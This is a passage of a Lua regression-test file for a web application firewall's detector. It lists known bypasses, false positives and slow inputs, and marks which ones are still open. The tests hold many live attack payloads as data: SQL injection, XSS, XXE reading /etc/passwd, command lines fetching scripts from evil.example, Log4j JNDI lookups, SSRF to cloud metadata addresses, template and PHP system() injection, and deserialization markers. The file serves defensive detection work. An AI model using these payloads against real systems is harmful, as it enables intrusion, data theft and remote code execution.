    refused(req({ path = "/p;q=" .. IMG }), "xss", "xss")
    refused(req({ path = "/users;id=1' or '1'='1" }), "sqli", "sqli")
  end },
  { "bypass: a payload split between the query and the body (ASP.NET Request.Params joins them with ',') (sqli)", function()
    refused(req({ method = "POST", query = "id=1 union/*", headers = { ["content-type"] = "application/x-www-form-urlencoded" }, body = "id=*/select 1,2,3" }), "sqli")
  end },
  { "bypass: Log4j lookups in 'structured' headers that applications log (X-Request-Id, Accept-Language, Authorization, Via, ...) (injection)", function()
    for _, h in ipairs({ "x-request-id", "accept-language", "authorization", "via", "if-none-match", "x-csrf-token", "baggage",
      "traceparent", "accept", "cache-control", "x-http-method-override", "range" }) do
      refused(req({ headers = { [h] = "${jndi:ldap://evil.example/a}" } }), "injection", h)
    end
  end },

  -- multipart/form-data
  { "bypass: multipart: '--XX--' inside a preamble line stops the parser; PHP and busboy only take delimiters at line starts (xss)", function()
    refused(post(MP, "abc--XX--\r\n" .. part("q", XSS) .. "--XX--\r\n"), "xss")
  end },
  { "bypass: multipart: a duplicate boundary parameter; the body uses the last one (xss)", function()
    refused(post("multipart/form-data; boundary=AA; boundary=XX", part("q", XSS) .. "--XX--\r\n"), "xss")
  end },
  { "bypass: multipart: 'boundary=XX ' with a trailing blank finds no part and nothing is inspected (xss)", function()
    refused(post("multipart/form-data; boundary=XX ", part("q", XSS) .. "--XX--\r\n"), "xss")
  end },
  { "bypass: multipart: a file part ending in a bare LF swallows the next field as file content (xss)", function()
    refused(post(MP, '--XX\nContent-Disposition: form-data; name="f"; filename="a.png"\n\nPNG\n--XX\nContent-Disposition: form-data; name="q"\n\n' .. XSS .. "\r\n--XX--\r\n"), "xss")
  end },
  { "bypass: multipart: duplicate filename parameter; PHP takes the last (upload)", function()
    refused(post(MP, part("f", "GIF89a", '; filename="a.jpg"; filename="shell.php"') .. "--XX--\r\n"), "upload")
  end },
  { "bypass: multipart: two Content-Disposition headers in one part, the second naming shell.php (upload)", function()
    refused(post(MP, '--XX\r\nContent-Disposition: form-data; name="f"; filename="a.jpg"\r\nContent-Disposition: form-data; name="f"; filename="a.php"\r\n\r\nGIF89a\r\n--XX--\r\n'), "upload")
  end },
  { "bypass: multipart: filename=\"\" marks a file here, but Go's ReadForm (and others) read the part as a field value (xss)", function()
    refused(post(MP, part("q", XSS, '; filename=""') .. "--XX--\r\n"), "xss")
  end },
  { "bypass: multipart: an uploaded SVG with an external entity (ImageMagick/librsvg/Batik parse it) (xxe)", function()
    refused(post(MP, part("f", '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>', '; filename="a.svg"\r\nContent-Type: image/svg+xml') .. "--XX--\r\n"), "xxe")
  end },
  { "bypass: multipart: an uploaded SVG with an onload handler, served back from the site (stored xss)", function()
    refused(post(MP, part("f", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', '; filename="a.svg"\r\nContent-Type: image/svg+xml') .. "--XX--\r\n"), "xss")
  end },

  -- SQL
  { "bypass: MySQL's \\N (NULL) glued to UNION: \\Nunion select ... from users (sqli)", function()
    eq(det("\\Nunion select username,password from users"), "sqli")
  end },
  { "bypass: sqlmap's RLIKE boolean payload (sqli)", function()
    eq(det("1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))"), "sqli")
  end },
  { "bypass: the login bypass '=' (user=''='' is true in MySQL) (sqli)", function()
    eq(det("'='"), "sqli")
  end },
  { "bypass: byte A0 (latin1 no-break space, a blank to MySQL) is eaten into words: 1%A0union%A0select%A01,2 (sqli)", function()
    eq(det("1\160union\160select\1601,2"), "sqli", "value")
    refused(req({ query = "id=1%A0union%A0select%A01,2" }), "sqli", "query")
  end },
  { "bypass: PostgreSQL COPY ... FROM PROGRAM stacked after a breakout (sqli)", function()
    eq(det("'; copy t from program 'curl evil.example'--"), "sqli")
  end },

  -- XSS
  { "bypass: event handlers missing from the list (onpagereveal, onbeforematch, oncommand) (xss)", function()
    eq(det("<body onpagereveal=print()>"), "xss", "onpagereveal")
    eq(det("<div onbeforematch=print() hidden=until-found>"), "xss", "onbeforematch")
    eq(det("<button oncommand=print() command=show-modal commandfor=d>"), "xss", "oncommand")
  end },
  { "bypass: JavaScript-string breakouts reaching alert without calling it by name (xss)", function()
    for _, v in ipairs({ "';onerror=alert;throw 1//", "';[1].find(alert)//", "';(x=alert)(1)//", "';Reflect.apply(alert,null,[1])//" }) do
      eq(det(v), "xss", v)
    end
  end },

  -- Commands
  { "bypass: a line break then a command-only command with a host argument: 127.0.0.1%0Awget http://... (cmdi)", function()
    eq(det("127.0.0.1\nwget http://evil.example/s.sh -O /tmp/s"), "cmdi", "wget")
    eq(det("127.0.0.1\ncurl evil.example/s.sh"), "cmdi", "curl")
  end },
  { "bypass: bash ANSI-C quoting: ;$'\\167\\147\\145\\164' evil.example/x (cmdi)", function()
    eq(det(";$'\\167\\147\\145\\164' evil.example/x"), "cmdi")
  end },
  { "bypass: commands missing from the lists (msiexec, schtasks, docker, tclsh) (cmdi)", function()
    for _, v in ipairs({ "; msiexec /q /i http://evil.example/x.msi", "; schtasks /create /tn x /tr calc.exe",
      "&& docker run --privileged -v /:/h alpine", "| tclsh" }) do
      eq(det(v), "cmdi", v)
    end
  end },

  -- Traversal
  { "bypass: sensitive files with '//' or '/./' in the path: /etc//passwd, /etc/./passwd (traversal)", function()
    eq(det("/etc//passwd"), "traversal", "//")
    eq(det("/etc/./passwd"), "traversal", "/./")
    eq(det("/./etc/./shadow"), "traversal", "/./ twice")
  end },
  { "bypass: PHP's data: wrapper without '//' (include('data:text/plain;base64,...') runs the code); refused today only by the cmdi false positive on ';base64' (traversal)", function()
    eq(det("data:text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg=="), "traversal")
  end },

  -- SSRF
  { "bypass: URLs WHATWG parsers (Node's URL, fetch) read leniently: http:/h, http:\\\\h, http:h (ssrf)", function()
    for _, v in ipairs({ "http:/127.0.0.1/", "http:\\\\169.254.169.254\\latest\\meta-data", "http:169.254.169.254/latest/meta-data/" }) do
      eq(det(v), "ssrf", v)
    end
  end },
  { "bypass: names that resolve to loopback: nip.io's hex form, lvh.me (ssrf)", function()
    eq(det("http://7f000001.nip.io/"), "ssrf", "7f000001.nip.io")
    eq(det("http://lvh.me/"), "ssrf", "lvh.me")
  end },
  { "bypass: Oracle Cloud's metadata address 192.0.0.192 (ssrf)", function()
    eq(det("http://192.0.0.192/opc/v1/instance/"), "ssrf")
  end },
  { "bypass: WebSocket URLs to internal hosts (ws://, wss://) (ssrf)", function()
    eq(det("ws://169.254.169.254/"), "ssrf", "ws")
    eq(det("wss://localhost/"), "ssrf", "wss")
  end },
  { "bypass: a UNC path (\\\\host\\share makes Windows send an NTLM hash) (ssrf)", function()
    eq(det("\\\\evil.example\\share\\x"), "ssrf")
  end },

  -- Code injection
  { "bypass: Twig filters that call system (injection)", function()
    eq(det("{{['id']|map('system')|join}}"), "injection", "map")
    eq(det("{{['id']|filter('system')}}"), "injection", "filter")
    eq(det("{{['id',1]|sort('passthru')|join}}"), "injection", "sort")
  end },
  { "bypass: PHP calls split by a comment or a line break, or built from strings (injection)", function()
    eq(det("system/**/('id')"), "injection", "comment")
    eq(det("system\n('id')"), "injection", "newline")
    eq(det("('sys'.'tem')('id')"), "injection", "string call")
  end },
  { "bypass: node-serialize's _$$ND_FUNC$$_ marker (injection)", function()
    eq(det("_$$ND_FUNC$$_function(){return 1}()"), "injection")
  end },
  { "bypass: .NET BinaryFormatter and Ruby Marshal objects in base64 (injection)", function()
    eq(det("AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0="), "injection", "BinaryFormatter")
    eq(det("BAhvOkBBY3RpdmVTdXBwb3J0OjpEZXByZWNhdGlvbg=="), "injection", "Marshal")
  end },
  { "bypass: fastjson @type and Json.NET $type with blanks around ':' (injection)", function()
    refused(post("application/json", '{"@type" : "org.apache.tomcat.dbcp.dbcp2.BasicDataSource", "driverClassLoader": {}}'), "injection", "@type")
    refused(post("application/json", '{"$type" : "System.IO.FileInfo, System.IO.FileSystem", "fileName": "x"}'), "injection", "$type")
  end },
  { "bypass: a PUBLIC DTD counts as w3.org's when 'w3.org' appears anywhere in the declaration (xxe)", function()
    refused(post("application/xml", '<?xml version="1.0"?><!DOCTYPE x PUBLIC "http://www.w3.org/" "http://evil.example/x.dtd"><x/>'), "xxe")
  end },

  -- False positives
  { "false positive: a data: URL of an image (avatar uploads in JSON and forms) is a command (cmdi)", function()
    passes(post("application/json", '{"avatar":"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="}'), "JSON")
    passes(post("application/x-www-form-urlencoded", "photo=data%3Aimage%2Fjpeg%3Bbase64%2C%2F9j%2F4AAQSkZJRgABAQ"), "form")
  end },
  { "false positive: skills searches such as 'Java & Python developer' are commands (cmdi)", function()
    passes(req({ query = "q=Java+%26+Python+developer" }), "Java & Python")
    passes(req({ query = "skills=bash+%26+zsh" }), "bash & zsh")
    passes(req({ query = "q=lua+%7C+python" }), "lua | python")
  end },
  { "false positive: \"let's update the set list\" is an UPDATE .. SET after a quote (sqli)", function()
    passes(req({ query = "q=let%27s+update+the+set+list" }))
  end },
  { "false positive: an OAuth native-app loopback redirect_uri (RFC 8252) is SSRF", function()
    passes(req({ path = "/oauth/authorize", query = "response_type=code&client_id=cli&redirect_uri=http%3A%2F%2F127.0.0.1%3A53682%2Fcallback&state=xyz" }))
  end },

  -- Denial of service
  { "slow: '(' then blanks is quadratic in D.js's (alert)( patterns (16 KiB: about 15 s)", function()
    local g = growth(function(n) return req({ query = "q=(" .. rep("+", n) }) end, 1024)
    truthy(g < 8, string.format("4x the input costs %.1fx", g))
  end },
  { "slow: a long run of digits is quadratic in the SQL tokenizer's number pattern (16 KiB: about 2.7 s)", function()
    local g = growth(function(n) return req({ query = "q=" .. rep("1", n) .. "x" }) end, 1024)
    truthy(g < 8, string.format("4x the input costs %.1fx", g))
  end },
  { "slow: a long word before ':' is quadratic in D.ssrf's scheme search (16 KiB: about 2.6 s)", function()
    local g = growth(function(n) return req({ query = "q=" .. rep("a", n) .. ".:" }) end, 1024)
    truthy(g < 8, string.format("4x the input costs %.1fx", g))
  end },
  { "slow: repeated '${a:' is quadratic in D.injection's lookup pattern (16 KiB: about 0.4 s)", function()
    local g = growth(function(n) return req({ query = "q=" .. rep("${a:", n // 4) }) end, 2048)
    truthy(g < 8, string.format("4x the input costs %.1fx", g))
  end },
  { "memory: clean header values of any length are remembered (4,096 x 60 KB = 235 MB per thread)", function()
    D.cache_reset()
    collectgarbage()
    local before = collectgarbage("count")
    local pad = rep("a b.", 4000)
    for i = 1, 200 do D.inspect(req({ headers = { ["x-pad"] = pad .. i } })) end
    collectgarbage()
    local grown = (collectgarbage("count") - before) / 1024
    D.cache_reset()
    truthy(grown < 1, string.format("200 clean 16 KB headers kept %.1f MB", grown))
  end },
}

-- The problems found by the attacker's pass that are fixed run as ordinary tests, under the name
-- of what they once did wrong. Those still open are asserted to still fail (today's behaviour,
-- documented in docs/detection.md): one that starts to pass fails the suite until it is moved out
-- of OPEN, so a closed gap is noticed and kept closed by its test.
local OPEN = {
  ["bypass: a form body in EBCDIC (charset=ibm037, honoured by IIS/.NET Framework) is neither decoded nor refused"] = true,
  ["bypass: a payload split between the query and the body (ASP.NET Request.Params joins them with ',') (sqli)"] = true,
  ["bypass: MySQL's \\N (NULL) glued to UNION: \\Nunion select ... from users (sqli)"] = true,
  ["bypass: PHP calls split by a comment or a line break, or built from strings (injection)"] = true,
  ["false positive: an OAuth native-app loopback redirect_uri (RFC 8252) is SSRF"] = true,
}
local still = 0
local named = {}
for _, k in ipairs(KNOWN) do
  named[k[1]] = true
  if OPEN[k[1]] then
    local ok, err = pcall(k[2])
    if ok then
      test("open " .. k[1], function() error("now passes: move it out of OPEN, where it runs as a fixed problem's test") end)
    else
      still = still + 1
      print("known  " .. k[1] .. ": still fails")
      if os.getenv("KNOWN_VERBOSE") then print("       " .. tostring(err)) end
    end
  else
    test("fixed " .. k[1], k[2])
  end
end
for name in pairs(OPEN) do
  test("open entry names a problem: " .. name, function() truthy(named[name], "no problem in KNOWN has this name") end)
end
print(string.format("%d problems found, %d still open", #KNOWN, still))

H.finish()
